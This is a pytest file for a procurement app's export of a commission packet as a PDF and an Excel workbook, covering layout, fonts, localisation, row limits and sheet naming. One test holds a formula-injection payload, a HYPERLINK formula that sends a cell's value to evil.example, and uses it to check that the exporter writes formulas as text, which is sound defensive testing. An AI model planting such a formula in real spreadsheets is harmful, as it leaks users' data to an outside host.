"""The commission packet's files: the PDF an officer prints and the .xlsx of the same content.
The PDF is written uncompressed here, so the test reads back the text it draws."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.utils.translation import override

from procurement.services import packet_files
from procurement.services.packet_files import (
    PACKET_PDF_MAX_ROWS,
    Packet,
    PacketSection,
    PacketTooLarge,
    packet_pdf,
    packet_xlsx,
)

STREAKS = PacketSection(
    "Projects not meeting goals for three months or more",
    "Consecutive months graded \"not meeting\" up to the range's end.",
    ("Project", "Neighbourhood", "Months not meeting", "Resident share", "Since"),
    (("Harbor Street Library", "Łódź Street – “East”", 4, Decimal("31.25"), dt.date(2024, 11, 1)),
     ("Beacon Park Pool", None, 12345, Decimal("-1.5"), dt.date(2024, 6, 1))),
    "No project has gone three months without meeting its goals.")
WAIVERS = PacketSection("Waivers granted", "", ("Date", "Contractor", "Reason"), (),
                        "No waivers were granted in the range.")


def _packet(*sections: PacketSection) -> Packet:
    return Packet(title="Boston Employment Commission packet", jurisdiction="City of Boston",
                  date_from=dt.date(2025, 1, 1), date_to=dt.date(2025, 3, 31),
                  generated_at=dt.datetime(2025, 4, 2, 14, 5, tzinfo=dt.UTC),
                  sections=sections or (STREAKS, WAIVERS))


def _rows(count: int) -> tuple[tuple[object, ...], ...]:
    return tuple((f"Project {n}", "Beacon Builders and Sons", "Electrician", n * 10,
                  Decimal("42.50"), dt.date(2024, 1, 1)) for n in range(count))


def _bulk(count: int, title: str = "Late filers by tier") -> PacketSection:
    return PacketSection(title, "", ("Project", "Contractor", "Trade", "Hours", "Share",
                                     "Due"), _rows(count), "None.")


def _unescape(match: re.Match[str]) -> str:
    return {"r": "\r", "n": "\n", "t": "\t"}.get(match.group(1), match.group(1))


def _pdf_strings(pdf: bytes) -> list[str]:
    """The strings an uncompressed fpdf2 PDF draws, in order. A core font's string is its
    text; a TrueType font's holds its subset's glyph codes (UTF-16BE), read back through that
    font's ToUnicode map."""
    source = pdf.decode("latin-1")
    objects = dict(re.findall(r"^(\d+) 0 obj\n(.*?)\nendobj", source, re.S | re.M))
    to_unicode: dict[str, dict[str, str]] = {}
    for name, number in re.findall(r"/(F\d+) (\d+) 0 R", source):
        cmap = re.search(r"/ToUnicode (\d+) 0 R", objects[number])
        if cmap:
            pairs = objects[cmap.group(1)].split("beginbfchar")[1]
            to_unicode[name] = {chr(int(code, 16)): chr(int(char, 16)) for code, char
                                in re.findall(r"<([0-9A-F]{4})> <([0-9A-F]{4})>", pairs)}
    strings, font = [], ""
    for number in re.findall(r"/Contents (\d+) 0 R", source):
        stream = objects[number].split("stream\n", 1)[1]
        for token in re.finditer(r"/(F\d+) [\d.]+ Tf|\(((?:\\.|[^\\)])*)\) Tj", stream, re.S):
            if token.group(1):
                font = token.group(1)
                continue
            text = re.sub(r"\\(.)", _unescape, token.group(2), flags=re.S)
            if font in to_unicode:
                codes = text.encode("latin-1").decode("utf-16-be")
                text = "".join(to_unicode[font].get(code, "") for code in codes)
            strings.append(text)
    return strings


def _pdf_text(pdf: bytes) -> str:
    return "\n".join(_pdf_strings(pdf))


def _pages(pdf: bytes) -> int:
    return len(re.findall(rb"/Type /Page\b", pdf))


# ----------------------------------------------------------------------------------------- PDF


def test_pdf_shows_the_title_block_each_section_and_its_cells():
    pdf = packet_pdf(_packet(), compress=False)
    assert pdf.startswith(b"%PDF-")
    strings = _pdf_strings(pdf)
    assert strings[:4] == ["Boston Employment Commission packet", "City of Boston",
                           "Period: Jan. 1, 2025 to March 31, 2025",
                           "Generated: April 2, 2025, 10:05 a.m."]  # New York time
    assert "Projects not meeting goals for three months or more" in strings
    assert "Waivers granted" in strings
    # numbers in the language's grouping, dates as ISO, None as an empty cell
    for cell in ("Harbor Street Library", "12,345", "31.25", "-1.5", "2024-11-01"):
        assert cell in strings
    assert "None" not in _pdf_text(pdf)


def test_an_empty_section_prints_its_empty_text_and_no_table():
    text = _pdf_text(packet_pdf(_packet(), compress=False))
    assert "No waivers were granted in the range." in text
    assert "Contractor" not in text  # the empty section's header is not drawn
    assert "No project has gone three months" not in text


def test_the_header_repeats_on_every_page_and_the_footer_counts_pages():
    pdf = packet_pdf(_packet(_bulk(120)), compress=False)
    strings = _pdf_strings(pdf)
    pages = _pages(pdf)
    assert pages >= 3
    assert strings.count("Contractor") == pages
    assert strings.count("Project 119") == 1
    assert f"Page 2 of {pages}" in "".join(strings)


def test_a_long_cell_wraps_and_a_huge_one_is_cut():
    words = " ".join(f"word{n}" for n in range(60))
    section = PacketSection("Notes", "", ("Project", "Comment"),
                            (("Harbor", words), ("Beacon", "x" * 50_000)), "None.")
    strings = _pdf_strings(packet_pdf(_packet(section), compress=False))
    comment_lines = [s for s in strings if s.startswith("word")]
    assert len(comment_lines) > 1
    assert " ".join(comment_lines) == words
    cut = [s for s in strings if s.startswith("x")]
    assert cut[-1].endswith("…")
    assert sum(len(s) for s in cut) == packet_files.PDF_CELL_MAX_CHARS


def test_a_unicode_font_prints_letters_outside_latin1():
    if not any(regular.is_file() for regular, _bold in packet_files.UNICODE_FONTS):
        pytest.skip("no Unicode TrueType font on this machine")
    pdf = packet_pdf(_packet(), compress=False)
    assert b"/Subtype /TrueType" in pdf or b"/CIDFontType2" in pdf
    assert "Łódź Street – “East”" in _pdf_strings(pdf)


def test_without_a_unicode_font_helvetica_writes_the_nearest_latin1(monkeypatch):
    monkeypatch.setattr(packet_files, "UNICODE_FONTS", ())
    tall = PacketSection("Notes", "Łódź…", ("Project", "Comment"),
                         (("Harbor", "word " * 900 + "x" * 99),), "None.")
    pdf = packet_pdf(_packet(STREAKS, tall), compress=False)
    assert b"/BaseFont /Helvetica" in pdf
    strings = _pdf_strings(pdf)
    assert '?ódz Street - "East"' in strings
    assert "?ódz..." in strings
    assert "Projects not meeting goals for three months or more" in strings
    assert any(s.endswith("word...") for s in strings)  # cut to fit a page


def test_in_spanish_the_writer_s_own_words_are_spanish():
    with override("es"):
        pdf = packet_pdf(_packet(), compress=False)
    strings = _pdf_strings(pdf)
    assert "Período: del 1 de enero de 2025 al 31 de marzo de 2025" in strings
    assert "12\xa0345" in strings  # Spanish groups digits with a no-break space
    assert "Página 1 de 1" in "".join(strings)
    assert "Page" not in "".join(strings)


def test_the_pdf_is_compressed_by_default():
    assert b"/Filter /FlateDecode" in packet_pdf(_packet())


@pytest.mark.parametrize(("rows", "refused"), [(PACKET_PDF_MAX_ROWS, False),
                                               (PACKET_PDF_MAX_ROWS + 1, True)])
def test_the_pdf_holds_up_to_the_row_limit_over_all_sections(rows, refused):
    packet = _packet(_bulk(rows // 2, "First"), _bulk(rows - rows // 2, "Second"))
    if refused:
        with pytest.raises(ValueError, match="holds up to 5,000 rows; this one has 5,001"
                           ) as refusal:
            packet_pdf(packet)
        assert isinstance(refusal.value, PacketTooLarge)
        assert (refusal.value.rows, refusal.value.limit) == (5_001, 5_000)
    else:
        assert packet_pdf(packet).startswith(b"%PDF-")


def test_a_row_must_have_a_value_for_each_column():
    with pytest.raises(ValueError, match="row 2 has 1 values for 2 columns"):
        PacketSection("Waivers", "", ("Date", "Reason"), (("a", "b"), ("c",)), "None.")


# ---------------------------------------------------------------------------------------- XLSX


def _workbook(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_the_workbook_has_a_summary_and_a_sheet_per_section():
    book = _workbook(packet_xlsx(_packet()))
    assert book.sheetnames == ["Summary", "Projects not meeting goals for", "Waivers granted"]
    summary = [[cell for cell in row if cell is not None]
               for row in book["Summary"].iter_rows(values_only=True)]
    assert summary[:4] == [["Boston Employment Commission packet"], ["City of Boston"],
                           ["Period", dt.datetime(2025, 1, 1), dt.datetime(2025, 3, 31)],
                           ["Generated", dt.datetime(2025, 4, 2, 10, 5)]]
    assert ["Projects not meeting goals for three months or more", STREAKS.note, 2,
            "Projects not meeting goals for"] in summary
    assert ["Waivers granted", 0, "Waivers granted"] in summary


def test_a_section_sheet_has_a_bold_frozen_header_numbers_and_dates():
    sheet = _workbook(packet_xlsx(_packet()))["Projects not meeting goals for"]
    assert sheet.freeze_panes == "A2"
    header = sheet[1]
    assert [cell.value for cell in header] == list(STREAKS.columns)
    assert all(cell.font.b for cell in header)
    first = sheet[2]
    assert first[2].value == 4 and first[2].data_type == "n"
    assert first[3].value == 31.25 and first[3].data_type == "n"
    assert first[4].is_date and first[4].value == dt.datetime(2024, 11, 1)
    assert sheet["B3"].value is None


def test_an_empty_section_sheet_says_so_under_its_header():
    sheet = _workbook(packet_xlsx(_packet()))["Waivers granted"]
    assert [[cell for cell in row] for row in sheet.iter_rows(values_only=True)] == [
        ["Date", "Contractor", "Reason"], ["No waivers were granted in the range.", None, None]]


def test_text_that_looks_like_a_formula_is_written_as_text():
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    section = PacketSection("Waivers", "", ("Contractor", "=1+1"), ((attack, "@SUM(A1)"),),
                            "None.")
    content = packet_xlsx(_packet(section))
    sheet = _workbook(content)["Waivers"]
    assert [cell.value for cell in sheet[2]] == ["'" + attack, "'@SUM(A1)"]
    assert [cell.data_type for cell in sheet[2]] == ["s", "s"]
    assert sheet["B1"].value == "'=1+1"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist()
                  if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml for xml in sheets)


def test_sheet_names_follow_excel_s_rules():
    titles = ("Waivers: granted [Q1]/2025?", "Waivers: granted [Q1]/2025?", "Summary",
              "'Quoted'", "A title well past the thirty-one characters Excel allows",
              "A title well past the thirty-one characters Excel allows too", "***")
    sections = tuple(PacketSection(title, "", ("A",), (), "None.") for title in titles)
    names = _workbook(packet_xlsx(_packet(*sections))).sheetnames
    assert names == ["Summary", "Waivers granted Q1 2025", "Waivers granted Q1 2025 (2)",
                     "Summary (2)", "Quoted", "A title well past the thirty-on",
                     "A title well past the thirt (2)", "7"]


def test_in_spanish_the_summary_sheet_is_spanish():
    with override("es"):
        book = _workbook(packet_xlsx(_packet()))
    assert book.sheetnames[0] == "Resumen"
    assert book["Resumen"]["A4"].value == "Generado"
